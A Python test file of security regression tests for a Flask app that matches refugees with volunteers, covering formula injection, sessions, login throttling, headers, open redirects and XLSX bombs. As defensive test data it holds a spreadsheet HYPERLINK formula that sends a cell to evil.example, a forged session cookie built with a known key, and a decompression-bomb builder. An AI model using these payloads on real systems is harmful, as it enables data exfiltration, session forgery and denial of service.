"""Regression tests for the holes a security probe found (issue 13), one section each."""
import csv
import io
import time

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.auth.models import Role
from app.extensions import db
from app.people.models import Volunteer
from app.spreadsheets import clean_text, safe_cell, unquote_cell
from tests.conftest import PASSWORD, log_in
from tests.test_recruitment import application

#: Every export asks why; any reason will do here.
EXPORT_REASON = {"reason": "Monthly report to the municipality"}

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'


def export_rows(client, plural, file_format):
    response = client.post(f"/people/{plural}/export.{file_format}", data=EXPORT_REASON)
    assert response.status_code == 200
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# 1. Formula injection


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_like_cell_is_quoted_and_read_back_unchanged(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert unquote_cell(safe_cell(start + "1+1")) == start + "1+1"
    assert safe_cell("Anna") == "Anna" and safe_cell(7) == 7


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_typed_into_the_public_form_is_text_in_every_export(client, login_as, file_format):
    client.post("/volunteer", data=application(full_name=FORMULA))
    login_as(Role.MANAGER, ["Aarhus"])
    rows = export_rows(client, "volunteers", file_format)
    assert rows[1][0] == "'" + FORMULA


# 2. Control characters


def test_control_characters_are_dropped_and_line_breaks_kept_only_where_text_may_have_lines():
    assert clean_text("Anna\x0bHansen\x00") == "AnnaHansen"
    assert clean_text("Anna\nHansen") == "Anna Hansen"
    assert clean_text("line 1\r\nline\x07 2", multiline=True) == "line 1\r\nline 2"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_control_character_on_the_public_form_leaves_a_clean_name_and_a_working_export(
    client, login_as, file_format
):
    client.post("/volunteer", data=application(full_name="Anna\x0bHansen\x00"))
    assert db.session.scalars(sa.select(Volunteer.full_name)).one() == "AnnaHansen"
    login_as(Role.MANAGER, ["Aarhus"])
    assert export_rows(client, "volunteers", file_format)[1][0] == "AnnaHansen"


# 4. Sessions revoked


def cookie(client, name):
    found = client.get_cookie(name)
    return found.value if found else None


def copy_of(app, session_cookie, name="session"):
    """A second browser holding a copied cookie."""
    other = app.test_client()
    other.set_cookie(name, session_cookie)
    return other


def test_a_copied_session_cookie_stops_working_after_logout(app, client, make_user):
    user = make_user(Role.MANAGER, ["Aarhus"])
    log_in(client, user.email)
    stolen = copy_of(app, cookie(client, "session"))
    assert stolen.get("/municipalities/").status_code == 200
    client.post("/auth/logout")
    assert stolen.get("/municipalities/").status_code == 302


def test_a_password_reset_ends_other_sessions_and_remember_cookies(app, client, make_user):
    from app.auth.services import _link

    user = make_user(Role.MANAGER, ["Aarhus"])
    client.post("/auth/login", data={"login": user.email, "password": PASSWORD, "remember": "y"})
    other_session = copy_of(app, cookie(client, "session"))
    remembered = copy_of(app, cookie(client, "remember_token"), "remember_token")
    assert remembered.get("/municipalities/").status_code == 200

    link = _link(user, "auth.reset_password", "password-reset")
    fresh = app.test_client()
    fresh.post(link, data={"password": "a new long password", "confirm": "a new long password"})
    assert fresh.get("/municipalities/").status_code == 200
    assert other_session.get("/municipalities/").status_code == 302
    assert copy_of(app, cookie(client, "remember_token"), "remember_token").get("/municipalities/").status_code == 302


def test_a_password_change_keeps_this_session_and_ends_the_others(app, client, make_user):
    user = make_user(Role.MANAGER, ["Aarhus"])
    log_in(client, user.email)
    other = copy_of(app, cookie(client, "session"))
    client.post("/auth/password", data={"current_password": PASSWORD, "password": "a new long password",
                                        "confirm": "a new long password"})
    assert client.get("/municipalities/").status_code == 200
    assert other.get("/municipalities/").status_code == 302


def test_deactivating_an_account_ends_its_sessions(app, client, make_user):
    from app.admin.services import set_enabled

    user = make_user(Role.MANAGER, ["Aarhus"])
    log_in(client, user.email)
    set_enabled(user, False)
    db.session.commit()
    assert client.get("/municipalities/").status_code == 302


# 5. Login


def answer(client, login, password="guess"):
    started = time.perf_counter()
    page = client.post("/auth/login?lang=en", data={"login": login, "password": password}).get_data(as_text=True)
    return page, time.perf_counter() - started


def test_unknown_and_known_accounts_get_the_same_words_in_similar_time(client, make_user):
    user = make_user(Role.MANAGER, ["Aarhus"])
    known, known_time = answer(client, user.email)
    unknown, unknown_time = answer(client, "nobody@example.org")
    assert "Wrong e-mail, phone number or password." in known and "Wrong e-mail" in unknown
    assert unknown_time > known_time / 3

    for _ in range(4):
        answer(client, "nobody@example.org")
    assert "Try again in 1 second" in answer(client, "nobody@example.org")[0]


def test_the_right_password_works_from_another_address_while_one_address_is_throttled(client, make_user):
    user = make_user(Role.MANAGER, ["Aarhus"])
    for n in range(11):
        answer(client, f"someone{n}@example.org")
    assert "Try again in" in answer(client, user.email, PASSWORD)[0]
    elsewhere = client.application.test_client()
    elsewhere.environ_base["REMOTE_ADDR"] = "192.0.2.7"
    assert elsewhere.post("/auth/login", data={"login": user.email, "password": PASSWORD}).status_code == 302


def test_one_address_may_spray_only_so_many_wrong_passwords(client, monkeypatch):
    from app.auth import services
    from app.limits import Backoff

    monkeypatch.setattr(services, "ADDRESS_BACKOFF", Backoff("test-address", free=1000, longest=1))
    monkeypatch.setattr(services, "SPRAYING_LIMIT", "3 per day")
    for n in range(3):
        assert "Wrong e-mail" in answer(client, f"user{n}@example.org")[0]
    assert "Try again in" in answer(client, "user9@example.org")[0]


# 3. Public CPU


def public_forms():
    from app.auth.forms import LoginForm, RequestResetForm, SetPasswordForm
    from app.events.forms import ContactSignUpForm
    from app.followup.forms import CheckInForm
    from app.recruitment.forms import VolunteerApplicationForm

    return [VolunteerApplicationForm, ContactSignUpForm, LoginForm, RequestResetForm, SetPasswordForm, CheckInForm]


def text_fields(form):
    from wtforms import FieldList, FormField, StringField

    for field in form:
        if isinstance(field, FieldList):
            for entry in field:
                yield from text_fields(entry.form) if isinstance(entry, FormField) else [entry]
        elif isinstance(field, StringField):
            yield field


@pytest.mark.parametrize("form_class", public_forms(), ids=lambda form: form.__name__)
def test_every_text_field_of_a_public_form_has_a_length_limit(app, form_class):
    from wtforms.validators import Length

    with app.test_request_context():
        form = form_class()
        unlimited = [
            field.name
            for field in text_fields(form)
            if not any(isinstance(v, Length) and 0 < v.max <= 4000 for v in field.validators)
        ]
    assert unlimited == []


def test_a_huge_public_form_is_refused_before_it_is_read(client):
    response = client.post("/volunteer?lang=en", data=application(other_interests="football " * 250_000))
    assert response.status_code == 413
    assert "What you sent is too long" in response.get_data(as_text=True)
    assert db.session.scalars(sa.select(Volunteer)).all() == []


def test_long_free_text_interests_are_refused_with_a_message(client):
    page = client.post("/volunteer?lang=en", data=application(other_interests="football " * 100))
    assert "Field cannot be longer than 500 characters." in page.get_data(as_text=True)
    assert db.session.scalars(sa.select(Volunteer)).all() == []


def test_the_rate_limit_counts_the_client_address_the_trusted_proxy_gives(app, client):
    """As app/serving.py sets it up with TRUSTED_PROXIES=1."""
    from werkzeug.middleware.proxy_fix import ProxyFix

    proxied = ProxyFix(app.wsgi_app, x_for=1)
    original, app.wsgi_app = app.wsgi_app, proxied
    try:
        for n in range(5):
            client.post("/volunteer", data=application(email=f"v{n}@example.org"),
                        headers={"X-Forwarded-For": "198.51.100.1"})
        blocked = client.post("/volunteer", data=application(email="v9@example.org"),
                              headers={"X-Forwarded-For": "198.51.100.1"})
        other = client.post("/volunteer", data=application(email="w9@example.org"),
                            headers={"X-Forwarded-For": "198.51.100.2"})
    finally:
        app.wsgi_app = original
    assert (blocked.status_code, other.status_code) == (429, 200)


# 6. Matches across municipalities


@pytest.fixture
def cross_match(app, make_person, make_user):
    """A proposed match of a København refugee and an Aarhus volunteer, neither with e-mail."""
    from app.matches import services as match_services

    refugee = make_person("refugee", full_name="Amal Haddad", municipality_code=101, phone="+4522000001")
    volunteer = make_person("volunteer", full_name="Birgit Jensen", phone="+4522000002", languages={"ar": 5})
    match = match_services.propose(refugee.id, volunteer.id, make_user(Role.ADMIN), "She moves to Aarhus")
    db.session.commit()
    return match, refugee, volunteer


@pytest.mark.parametrize("own, partner, municipality", [
    ("volunteer", "refugee", "København"), ("refugee", "volunteer", "Aarhus"),
])
def test_each_manager_of_a_cross_municipality_match_sees_their_person_and_the_partners_first_name(
    client, login_as, cross_match, own, partner, municipality
):
    match, refugee, volunteer = cross_match
    people = {"refugee": refugee, "volunteer": volunteer}
    own_person, partner_person = people[own], people[partner]
    login_as(Role.MANAGER, ["Aarhus" if own == "volunteer" else "København"], locale="en")
    partner_first, partner_rest = partner_person.full_name.split()
    shown = f"{partner_first} · {municipality}"

    pages = {
        "matches list": client.get("/matches/"),
        "match": client.get(f"/matches/{match.id}"),
        "end the match": client.get(f"/matches/{match.id}/end"),
        "own person": client.get(f"/people/{own_person.id}"),
        "home": client.get("/"),
    }
    for name, page in pages.items():
        text = page.get_data(as_text=True)
        assert page.status_code == 200, name
        assert partner_rest not in text and partner_person.phone not in text, name
        assert f"/people/{partner_person.id}\"" not in text, name
    for name in ("matches list", "match", "own person"):
        assert shown in pages[name].get_data(as_text=True), name
    assert own_person.full_name in pages["match"].get_data(as_text=True)
    assert own_person.phone in pages["home"].get_data(as_text=True)  # a call task for their own person only

    assert client.get(f"/people/{partner_person.id}").status_code == 403
    refused = client.post(f"/matches/{match.id}/answer", data={"side": partner, "answer": "yes"})
    assert refused.status_code == 403 and match.refugee_accepted_at is None and match.volunteer_accepted_at is None
    client.post(f"/matches/{match.id}/answer", data={"side": own, "answer": "yes"})
    db.session.refresh(match)
    assert getattr(match, f"{own}_accepted_at") is not None


# 7. Security headers


def test_every_page_has_the_security_headers_and_no_inline_script_or_style(client):
    response = client.get("/volunteer")
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'none'" in policy and "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy and response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in response.headers
    assert "style=" not in response.get_data(as_text=True)


def test_production_sends_hsts(app, client, monkeypatch):
    monkeypatch.setitem(app.config, "HSTS_MAX_AGE", 31536000)
    assert client.get("/auth/login").headers["Strict-Transport-Security"].startswith("max-age=31536000")


def test_pages_and_exports_of_a_logged_in_user_are_never_stored_but_static_files_may_be(client, login_as):
    login_as(Role.MANAGER, ["Aarhus"])
    assert client.get("/people/refugees").headers["Cache-Control"] == "no-store"
    assert client.post("/people/refugees/export.csv", data=EXPORT_REASON).headers["Cache-Control"] == "no-store"
    assert client.get("/static/css/app.css").headers["Cache-Control"] != "no-store"


def test_the_remember_cookie_is_same_site(client, make_user):
    user = make_user(Role.MANAGER, ["Aarhus"])
    response = client.post("/auth/login", data={"login": user.email, "password": PASSWORD, "remember": "y"})
    [remember] = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("remember_token=")]
    assert "SameSite=Lax" in remember and "HttpOnly" in remember


# 8. Unsafe default


@pytest.fixture
def development_app(tmp_path, monkeypatch):
    """The development app as `flask run` builds it without SECRET_KEY, its instance folder in tmp_path."""
    import config
    from app import create_app

    monkeypatch.setattr(config, "INSTANCE_DIR", tmp_path)
    monkeypatch.setattr(config.DevelopmentConfig, "SECRET_KEY", None)
    return create_app("development")


def test_development_without_a_secret_key_makes_a_random_one_once_and_keeps_it_private(development_app, tmp_path):
    from config import INSECURE_SECRET_KEY

    from app import create_app

    key = development_app.config["SECRET_KEY"]
    assert key != INSECURE_SECRET_KEY and len(key) == 64
    assert (tmp_path / "secret_key").stat().st_mode & 0o777 == 0o600
    assert create_app("development").config["SECRET_KEY"] == key


def test_a_cookie_signed_with_the_published_development_key_is_not_believed(development_app):
    from flask import Flask, request
    from flask.sessions import SecureCookieSessionInterface

    from config import INSECURE_SECRET_KEY

    forger = Flask("forger")
    forger.secret_key = INSECURE_SECRET_KEY
    forged = SecureCookieSessionInterface().get_signing_serializer(forger).dumps({"_user_id": "1"})
    with development_app.test_request_context(headers={"Cookie": f"session={forged}"}):
        session = development_app.session_interface.open_session(development_app, request)
    assert "_user_id" not in session


def test_the_wsgi_entry_point_defaults_to_production(monkeypatch):
    import importlib
    import sys

    monkeypatch.delenv("APP_CONFIG", raising=False)
    monkeypatch.delenv("SECRET_KEY", raising=False)
    monkeypatch.delitem(sys.modules, "wsgi", raising=False)
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        importlib.import_module("wsgi")


# 11. Smaller holes


def flashes_in_cookie(client):
    """The flash messages as they travel in the (signed, readable) session cookie."""
    from flask.sessions import SecureCookieSessionInterface

    serializer = SecureCookieSessionInterface().get_signing_serializer(client.application)
    return str(serializer.loads(cookie(client, "session")).get("_flashes", []))


def test_flash_messages_in_the_session_cookie_carry_no_names(client, login_as, make_person, make_user):
    from tests.test_people import form_data

    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    client.post("/people/refugees/new", data=form_data())
    assert "The person is saved." in flashes_in_cookie(client) and "Amal" not in flashes_in_cookie(client)

    client.get("/")  # the message is shown, and leaves the cookie
    applicant = make_person("volunteer", full_name="Ida Nielsen", status="applicant")
    client.post(f"/applicants/{applicant.id}/approve")
    assert "approved" in flashes_in_cookie(client) and "Ida" not in flashes_in_cookie(client)


def test_marking_a_check_in_done_returns_to_a_local_page_only(client, login_as, make_person):
    from datetime import timedelta

    from app.followup.models import CheckIn
    from app.followup.services import create_due_check_ins
    from app.matches import services as match_services
    from app.timeutil import today_local

    refugee = make_person("refugee", email="r@example.org")
    volunteer = make_person("volunteer", email="v@example.org", languages={"ar": 5})
    manager = login_as(Role.MANAGER, ["Aarhus"])
    match = match_services.propose(refugee.id, volunteer.id, manager)
    match_services.accept(match, "refugee", manager)
    match_services.accept(match, "volunteer", manager)
    db.session.commit()
    create_due_check_ins(today_local() + timedelta(days=30))
    db.session.commit()
    check_in = db.session.scalars(sa.select(CheckIn)).first()

    evil = client.post(f"/check-ins/{check_in.id}/handled", data={"next": "https://evil.example/"},
                       headers={"Referer": "https://evil.example/"})
    assert evil.headers["Location"] == "/"
    home = client.post(f"/check-ins/{check_in.id}/handled", data={"next": "/people/refugees?page=2"})
    assert home.headers["Location"] == "/people/refugees?page=2"


def test_unconfirmed_import_files_are_deleted_by_the_scheduled_job(app, make_user):
    import os

    from app.people import uploads
    from app.scheduler import run_job

    user = make_user(Role.MANAGER, ["Aarhus"])
    fresh = uploads.keep(user, "people.csv", b"navn\nAnna\n")
    stale = uploads.keep(user, "people.csv", b"navn\nBo\n")
    path = next(p for p in uploads._folder().iterdir() if stale in p.name)
    day_ago = time.time() - uploads.MAX_AGE_SECONDS - 60
    os.utime(path, (day_ago, day_ago))

    assert run_job("import-files-cleanup")
    assert uploads.load(user, stale) is None and uploads.load(user, fresh) is not None
    uploads.discard(user, fresh)


# 10. XLSX bombs


def xlsx_declaring(dimension, rows):
    """An XLSX file whose sheet declares `dimension` but holds only `rows`."""
    import re
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    plain = io.BytesIO()
    workbook.save(plain)
    bomb = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="%s"' % dimension.encode(), data)
            target.writestr(item, data)
    return bomb.getvalue()


def test_an_xlsx_declaring_a_huge_sheet_is_read_as_small_as_it_is():
    import tracemalloc

    from app.people.importing import MAX_COLUMNS, read_table

    content = xlsx_declaring("A1:XFD20000", [["navn", "telefon"], ["Anna", "22334455"]])
    assert len(content) < 10_000
    tracemalloc.start()
    rows = read_table("bomb.xlsx", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [row[:2] for row in rows] == [["navn", "telefon"], ["Anna", "22334455"]]
    assert all(len(row) <= MAX_COLUMNS for row in rows)
    assert peak < 20_000_000


def test_an_xlsx_with_too_many_rows_is_refused_before_it_is_all_read(monkeypatch):
    from app.people import importing

    monkeypatch.setattr(importing, "MAX_ROWS", 3)
    content = xlsx_declaring("A1:B10", [["navn"]] + [[f"Person {n}"] for n in range(10)])
    with pytest.raises(importing.ImportFileError, match="more than 3 rows"):
        importing.read_table("many.xlsx", content)


# 9. Server errors on input


@pytest.mark.parametrize("url", [
    "/people/99999999999999999999",
    "/matches/99999999999999999999",
    "/people/refugees?page=99999999999999999999",
    "/people/waiting?page=-99999999999999999999",
    "/people/refugees?min_days_waiting=1000000",
    "/people/refugees?after=99999999999999999999",
    "/people/refugees?before=-99999999999999999999",
    "/people/waiting?after=99999999999999999999",
    "/matches/batch?municipality=99999999999999999999",
    "/agreements/?municipality=99999999999999999999",
    "/agreements/new?municipality=99999999999999999999",
    "/admin/audit?before=99999999999999999999",
])
def test_huge_numbers_in_addresses_are_not_server_errors(client, login_as, url):
    login_as(Role.ADMIN if url.startswith("/admin/") else Role.MANAGER, ["Aarhus"], locale="en")
    assert client.get(url).status_code in (200, 403, 404)


def import_page(client, header, line):
    from tests.test_import_export import upload

    content = f"{header}\r\n{line}\r\n".encode()
    return upload(client, "refugees", "people.csv", content).get_data(as_text=True)


@pytest.mark.parametrize("cell", ["inf", "1e400", "99999999999999999999"])
def test_import_numbers_out_of_any_range_are_explained(client, login_as, cell):
    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    page = import_page(client, "navn;telefon;postnummer;fødselsår", f"Amal;22334455;8000;{cell}")
    assert "not a whole number" in page or "must be between 1900" in page


@pytest.mark.parametrize("cell", ["-5", "1850", "3000"])
def test_import_child_birth_years_must_be_of_children(client, login_as, cell):
    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    page = import_page(client, "navn;telefon;postnummer;børns_fødselsår", f"Amal;22334455;8000;{cell}")
    assert "write birth years of children under 18" in page


def test_an_import_name_longer_than_the_database_holds_is_explained(client, login_as):
    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    page = import_page(client, "navn;telefon;postnummer", f"{'A' * 10_000};22334455;8000")
    assert "longer than 200 characters" in page


def test_a_training_without_a_date_is_explained_and_nothing_is_written(client, login_as):
    from tests.test_people import form_data

    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    page = client.post("/people/volunteers/new", data=form_data(**{"trainings-0-course": "Intro"}))
    assert "Enter the date the course was completed." in page.get_data(as_text=True)
    assert db.session.scalars(sa.select(Volunteer)).all() == []


@pytest.mark.parametrize("path", ["/people/{id}/merge", "/people/refugees"])
def test_a_search_of_thousands_of_words_is_answered_quickly(client, login_as, make_person, path):
    person = make_person("refugee", full_name="Amal Haddad")
    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    started = time.perf_counter()
    response = client.get(path.format(id=person.id), query_string={"q": " ".join(["Amal"] * 3000)})
    assert response.status_code == 200 and time.perf_counter() - started < 5


@pytest.mark.parametrize("full_name, error", [
    ("A" * 10_000, "Field cannot be longer than 200 characters."), ("\x00", "This field is required."),
])
def test_a_huge_or_nul_name_on_the_person_form_is_a_message_and_nothing_is_written(
    client, login_as, full_name, error
):
    from app.people.models import Person
    from tests.test_people import form_data

    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    page = client.post("/people/refugees/new", data=form_data(full_name=full_name)).get_data(as_text=True)
    assert error in page
    assert db.session.scalars(sa.select(Person)).all() == []


def test_a_huge_name_is_searched_for_duplicates_as_far_as_a_name_goes(client, login_as, make_person):
    # Without a birth year the name's words are looked up as typed: 35,000 "é€" would be a LIKE pattern
    # longer than SQLite accepts (a 503), unless cut to what a name column holds.
    from app.people.models import Person
    from tests.test_people import form_data

    someone = make_person(full_name="Amal Haddad")
    login_as(Role.MANAGER, ["Aarhus"], locale="en")
    response = client.post("/people/refugees/new", data=form_data(full_name="é€" * 35_000, phone=""))
    assert response.status_code == 200
    assert "Field cannot be longer than 200 characters." in response.get_data(as_text=True)
    assert db.session.scalars(sa.select(Person)).all() == [someone]


# Faults


@pytest.fixture
def app_without_database(tmp_path):
    from app import create_app

    return create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'missing' / 'db.sqlite'}"})


def test_an_unreachable_database_is_a_translated_503_page_and_nothing_is_saved(app_without_database, client, make_user):
    user = make_user(Role.MANAGER, ["Aarhus"])
    log_in(client, user.email)
    down = copy_of(app_without_database, cookie(client, "session"))  # logged in when the database went down
    for response in (down.get("/activities?lang=en"), down.post("/volunteer?lang=en", data=application()),
                     down.get("/people/refugees?lang=en")):
        assert response.status_code == 503 and response.headers["Retry-After"] == "60"
        assert "Nothing you sent was saved." in response.get_data(as_text=True)
    danish = app_without_database.test_client().get("/activities?lang=da").get_data(as_text=True)
    assert "Intet af det, du sendte, blev gemt." in danish


def test_a_database_lost_in_the_middle_of_a_write_leaves_nothing_half_written(client, monkeypatch):
    """The application's rows are flushed, then the commit fails: the 503 handler rolls all of them back."""
    from sqlalchemy.exc import OperationalError

    from app.people.models import Person

    def lost(*args, **kwargs):
        db.session.flush()
        raise OperationalError("COMMIT", {}, Exception("server closed the connection unexpectedly"))

    monkeypatch.setattr(db.session, "commit", lost)
    response = client.post("/volunteer?lang=en", data=application())
    assert response.status_code == 503 and "Nothing you sent was saved." in response.get_data(as_text=True)
    monkeypatch.undo()
    assert db.session.scalars(sa.select(Person)).all() == []
